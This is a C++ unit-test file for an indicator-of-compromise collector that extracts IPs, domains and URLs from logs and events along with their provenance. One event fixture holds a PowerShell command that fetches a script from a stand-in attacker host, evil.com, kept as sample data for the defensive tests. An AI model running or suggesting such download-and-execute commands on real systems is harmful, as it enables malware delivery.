// Collector: text sources streamed in chunks with line numbers, UTF-16
// across chunk boundaries, long lines, events with field provenance.
#include <gtest/gtest.h>

#include "trinity/ioc/collect.h"

namespace {

using namespace trinity;
using namespace trinity::ioc;

TEST(Collect, LinesAndProvenance) {
    const std::string text = "first line\r\nbeacon 8.8.8.8\nagain 8.8.8.8 and evil.com\nlast evil.com";
    io::SpanByteSource source(io::as_bytes(text), "log.txt");
    Collector c;
    auto stats = c.add_text_source(source, {"log.txt", "abc"});
    ASSERT_TRUE(stats.ok());
    EXPECT_EQ(stats->lines, 4u);
    EXPECT_EQ(stats->bytes, text.size());
    const auto* ip = c.set().find({IndicatorType::ipv4, "8.8.8.8"});
    ASSERT_TRUE(ip);
    EXPECT_EQ(ip->count, 2u);
    EXPECT_EQ(ip->first.line, 2u);
    EXPECT_EQ(ip->last.line, 3u);
    EXPECT_EQ(ip->first.evidence, "log.txt");
    EXPECT_EQ(ip->first.evidence_sha256, "abc");
    const auto* d = c.set().find({IndicatorType::domain, "evil.com"});
    ASSERT_TRUE(d);
    EXPECT_EQ(d->last.line, 4u);  // a last line without '\n'
}

TEST(Collect, ChunkBoundariesLoseNothing) {
    // Enough lines to span several 1 MiB chunks; every line has an address.
    std::string text;
    std::uint64_t lines = 0;
    while (text.size() < 3 * (1u << 20) + 12345) {
        text += "connection from 10.0." + std::to_string(lines / 250 % 250) + "." + std::to_string(lines % 250) +
                " port 443 ok\n";
        ++lines;
    }
    io::SpanByteSource source(io::as_bytes(text));
    Collector c;
    auto stats = c.add_text_source(source, {"big.log", ""});
    ASSERT_TRUE(stats.ok());
    EXPECT_EQ(stats->lines, lines);
    EXPECT_EQ(c.set().total_sightings(), lines);
}

TEST(Collect, Utf16AcrossChunks) {
    // UTF-16LE with a BOM, non-ASCII text and a surrogate pair, longer than a chunk.
    std::u16string line = u"\u00e9v\u00e9nement \U0001F600 vers 45.77.12.9\r\n";
    std::u16string text = u"\uFEFF";
    std::uint64_t lines = 0;
    while (text.size() * 2 < (1u << 20) + 999) {
        text += line;
        ++lines;
    }
    std::vector<std::byte> bytes;
    for (char16_t u : text) {
        bytes.push_back(static_cast<std::byte>(u & 0xff));
        bytes.push_back(static_cast<std::byte>(u >> 8));
    }
    io::SpanByteSource source(bytes);
    Collector c;
    auto stats = c.add_text_source(source, {"u16.txt", ""});
    ASSERT_TRUE(stats.ok());
    EXPECT_EQ(stats->lines, lines);
    const auto* ip = c.set().find({IndicatorType::ipv4, "45.77.12.9"});
    ASSERT_TRUE(ip);
    EXPECT_EQ(ip->count, lines);
}

TEST(Collect, LongLinesAreScannedInPieces) {
    std::string text(Collector::kMaxLine * 2 + 10, 'x');
    text.replace(10, 9, " 1.2.3.4 ");
    text += "\nnext 5.6.7.8\n";
    io::SpanByteSource source(io::as_bytes(text));
    Collector c;
    auto stats = c.add_text_source(source, {"long.txt", ""});
    ASSERT_TRUE(stats.ok());
    EXPECT_EQ(stats->long_lines, 1u);
    EXPECT_EQ(stats->lines, 2u);
    ASSERT_TRUE(c.set().find({IndicatorType::ipv4, "1.2.3.4"}));
    EXPECT_EQ(c.set().find({IndicatorType::ipv4, "5.6.7.8"})->first.line, 2u);
}

TEST(Collect, EventsCarryFieldNames) {
    event::Event e;
    e.source = "evtx";
    e.time_us = 1700000000000000;
    e.provenance.record = 42;
    e.add("EventID", "1", event::FieldType::integer);
    e.add("CommandLine", "powershell -c iwr http://evil.com/a.ps1");
    e.add("DestinationIp", "8.8.4.4");
    Collector c;
    c.add_event(e, {"Sysmon.evtx", ""});
    const auto* url = c.set().find({IndicatorType::url, "http://evil.com/a.ps1"});
    ASSERT_TRUE(url);
    EXPECT_EQ(url->first.field, "CommandLine");
    EXPECT_EQ(url->first.record, 42u);
    EXPECT_EQ(url->first_time_us, e.time_us);
    const auto* ip = c.set().find({IndicatorType::ipv4, "8.8.4.4"});
    ASSERT_TRUE(ip);
    EXPECT_EQ(ip->first.field, "DestinationIp");
}

TEST(Collect, ProvenanceIsBounded) {
    Collector c;
    for (std::uint64_t i = 1; i <= 100; ++i) c.add_text("9.9.9.9", Sighting{"e", "", 0, i, "", {}});
    const auto* ip = c.set().find({IndicatorType::ipv4, "9.9.9.9"});
    ASSERT_TRUE(ip);
    EXPECT_EQ(ip->count, 100u);
    EXPECT_EQ(ip->sightings.size(), IndicatorSet::kMaxProvenance);
    EXPECT_EQ(ip->last.line, 100u);
}

class FailingSource final : public io::ByteSource {
public:
    std::uint64_t size() const override { return 100; }
    const std::string& name() const override { return name_; }
    Result<std::size_t> read_at(std::uint64_t, std::span<std::byte>) override {
        return fail(ErrorKind::io, "disk on fire", Location::in(name_));
    }

private:
    std::string name_ = "bad.txt";
};

TEST(Collect, ReadErrorsAreReported) {
    FailingSource source;
    Collector c;
    auto stats = c.add_text_source(source, {"bad.txt", ""});
    ASSERT_FALSE(stats.ok());
    EXPECT_EQ(stats.error().kind, ErrorKind::io);
}

}  // namespace

namespace {

TEST(IndicatorSetMoves, LookupsSurviveAMove) {
    trinity::ioc::IndicatorSet a;
    a.add({trinity::ioc::IndicatorType::domain, "short.io"}, {});  // a value in the string's own buffer
    a.add({trinity::ioc::IndicatorType::url, "http://a-rather-long-host.example.com/path"}, {});
    trinity::ioc::IndicatorSet b = std::move(a);
    b.add({trinity::ioc::IndicatorType::domain, "short.io"}, {});
    ASSERT_EQ(b.size(), 2u);
    EXPECT_EQ(b.find({trinity::ioc::IndicatorType::domain, "short.io"})->count, 2u);
    EXPECT_TRUE(b.find({trinity::ioc::IndicatorType::url, "http://a-rather-long-host.example.com/path"}));
    EXPECT_FALSE(b.find({trinity::ioc::IndicatorType::ipv4, "short.io"}));  // the type is part of the key
}

}  // namespace
